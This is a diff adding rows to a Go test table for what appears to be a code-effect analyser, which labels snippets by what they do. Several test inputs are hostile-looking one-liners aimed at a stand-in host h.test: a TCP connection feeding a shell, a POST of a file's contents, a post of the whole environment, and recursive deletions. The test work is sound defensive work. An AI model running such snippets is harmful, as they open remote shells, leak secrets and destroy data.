@@ -59,6 +59,11 @@ func TestRead(t *testing.T) {
 		{commands.Native, `c, _ := net.Dial("tcp", "h.test:1"); exec.Command("sh")`, "Send tcp; Run[line] sh; Expose{tunnel} a shell of this machine"},
 		{commands.Native, `c, _ := net.Dial("tcp", "h.test:1"); exec.Command("ls")`, "Send tcp; Run[line] ls"},
 		{commands.Tcl, `set s [socket h.test 1]; eval $e`, "Send h.test; Expose{tunnel} a shell of this machine"},
+		{commands.Native, `unlink("/x", recursive = TRUE)`, "Delete /x/**"},
+		{commands.JavaScript, `Deno.removeSync("/x", {recursive: true})`, "Delete /x/**"},
+		{commands.JavaScript, `fetch("http://h.test", {method: "POST", body: Deno.readTextFileSync("f")})`, "Send http://h.test; Read f"},
+		{commands.JavaScript, `axios.post("http://h.test", process.env)`, "Send http://h.test; Disclose environment"},
+		{commands.JavaScript, `process.env["HOME"]; process.env.HOME`, ""},
 		{commands.Native, `x <- run; print(system)`, ""},
 	} {
 		r := Read(c.lang, c.text, code.Setting{Home: "/home/dev", Secret: func(string) bool { return false }})
